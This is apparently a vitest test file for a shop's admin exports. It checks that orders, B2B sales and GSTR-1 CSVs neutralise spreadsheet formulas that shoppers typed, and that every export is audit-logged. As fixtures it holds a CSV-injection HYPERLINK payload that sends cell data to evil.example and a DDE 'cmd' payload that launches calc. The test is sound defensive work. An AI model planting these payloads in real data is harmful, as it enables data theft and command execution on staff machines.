// Every CSV the server writes for staff keeps what shoppers typed as text: a shopper's
// address or a wholesaler's name that reads as a spreadsheet formula ('=HYPERLINK(…)')
// opens as text in the orders export, the B2B sales CSV and the GSTR-1 files. And every
// export (orders CSV, GSTR-1, B2B sales, labels and invoices) is in the audit log.
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { queryRows } from './db/index.js';
import { indianDayOf } from './indian-days.js';
import { adminClient, type AdminClient } from './test/admin-client.js';
import { paidOrder, shopper } from './test/checkout.js';
import { createProduct, shippingAddressInput } from './test/factories.js';
import { startTestApp, type TestApp } from './test/harness.js';
import { createStaff } from './test/staff.js';
import { approvedWholesaler, createPriceList } from './test/wholesale.js';

const FORMULA = '=HYPERLINK("http://evil.example/?d="&M2&N2,"Track parcel")';
const NAME_FORMULA = '@SUM(1+1)*cmd|" /C calc"!A0';
const GSTIN = '33AABCC1234D1ZI';

let t: TestApp;
let owner: AdminClient;
let packer: AdminClient;
let orderId: number;
const month = indianDayOf(new Date()).slice(0, 7);

beforeAll(async () => {
  t = await startTestApp({}, { orderSweep: false });
  const origin = new URL(t.config.publicUrl).origin;
  owner = adminClient(t.app, origin, (await createStaff(t.db, 'owner')).cookie);
  packer = adminClient(t.app, origin, (await createStaff(t.db, 'packer')).cookie);
  const jersey = await createProduct(t.db, {
    name: 'Chennaiyin FC Home',
    pricePaise: 149_900,
    discountPricePaise: 99_900,
    sizes: { M: 50 },
  });
  const buyer = await shopper(t);
  await approvedWholesaler(t.db, buyer.id, await createPriceList(t.db, { name: 'Clubs' }), {
    shopName: NAME_FORMULA,
    shopLocation: '21 Pondy Bazaar, Chennai 600017',
    gst: GSTIN,
  });
  orderId = await paidOrder(
    t,
    buyer,
    [{ product_id: jersey, size: 'M', quantity: 1 }],
    999 + 85, // ₹85 shipping to Tamil Nadu
    {
      shipping_address: shippingAddressInput({
        street_name: FORMULA,
        city: 'Chennai',
        state: 'Tamil Nadu',
        pincode: '600017',
      }),
      state: 'Tamil Nadu',
    },
  );
  const shipped = await packer.call('POST', `/api/admin/orders/${orderId}/ship`, {
    courier_name: 'Delhivery',
    tracking_id: `DLV${orderId}`,
  });
  expect(shipped.statusCode, shipped.body).toBe(200);
});
afterAll(() => t?.close());

const cellsOf = (csv: string): string[][] => parse(csv.replace(/^\uFEFF/, ''));
/** A cell a spreadsheet would run: it starts with = + - @ (a plain negative number aside). */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);

describe('the CSVs staff download', () => {
  it('write a formula a shopper typed as text, in the orders export', async () => {
    const res = await owner.call('GET', '/api/admin/orders/export');
    expect(res.statusCode, res.body).toBe(200);
    const rows = cellsOf(res.body);
    const street = rows[0]!.indexOf('street');
    const row = rows.find((r) => r[0] === String(orderId))!;
    expect(row[street]).toBe(`'${FORMULA}`);
    expect(rows.flat().filter(live)).toEqual([]);
  });

  it('and in the B2B sales CSV and the GSTR-1 b2b file, alone or in the ZIP', async () => {
    const b2bSales = await owner.call('GET', `/api/admin/tax/b2b-sales?month=${month}`);
    expect(b2bSales.statusCode, b2bSales.body).toBe(200);
    const sales = cellsOf(b2bSales.body);
    expect(sales[1]![sales[0]!.indexOf('legal_name')]).toBe(`'${NAME_FORMULA}`);
    expect(sales.flat().filter(live)).toEqual([]);

    const b2b = await owner.call('GET', `/api/admin/tax/gstr1?month=${month}&section=b2b`);
    expect(b2b.statusCode, b2b.body).toBe(200);
    expect(cellsOf(b2b.body).flat()).toContain(`'${NAME_FORMULA}`);
    expect(cellsOf(b2b.body).flat().filter(live)).toEqual([]);

    const zip = await owner.call('GET', `/api/admin/tax/gstr1/zip?month=${month}`);
    expect(zip.statusCode, zip.body).toBe(200);
    const files = unzipSync(new Uint8Array(zip.rawPayload));
    const cells = Object.values(files).flatMap((f) => cellsOf(strFromU8(f)).flat());
    expect(cells).toContain(`'${NAME_FORMULA}`);
    expect(cells.filter(live)).toEqual([]);
  });
});

describe('every export', () => {
  it('is in the audit log: who took which file', async () => {
    const [{ last } = { last: 0 }] = await queryRows<{ last: number }>(
      t.db,
      sql`SELECT COALESCE(MAX(id), 0)::int AS last FROM audit_log`,
    );
    const calls = [
      '/api/admin/orders/export?status=Shipped',
      `/api/admin/tax/gstr1?month=${month}&section=b2b`,
      `/api/admin/tax/gstr1/zip?month=${month}`,
      `/api/admin/tax/b2b-sales?month=${month}`,
      `/api/admin/orders/invoices?ids=${orderId}`,
      `/api/admin/orders/labels?ids=${orderId}`,
    ];
    for (const url of calls) {
      const res = await owner.call('GET', url);
      expect(res.statusCode, `${url}: ${res.body}`).toBe(200);
    }
    const audit = await queryRows<{ entity: string; entity_id: string; action: string }>(
      t.db,
      sql`SELECT entity, entity_id, action FROM audit_log
          WHERE id > ${last} AND staff_id IS NOT NULL ORDER BY id`,
    );
    expect(audit).toEqual([
      { entity: 'order', entity_id: 'export', action: 'export_csv' },
      { entity: 'tax_report', entity_id: month, action: 'export_gstr1' },
      { entity: 'tax_report', entity_id: month, action: 'export_gstr1' },
      { entity: 'tax_report', entity_id: month, action: 'export_b2b_sales' },
      { entity: 'order', entity_id: String(orderId), action: 'download_invoices' },
      { entity: 'order', entity_id: String(orderId), action: 'print_labels' },
    ]);
  });
});
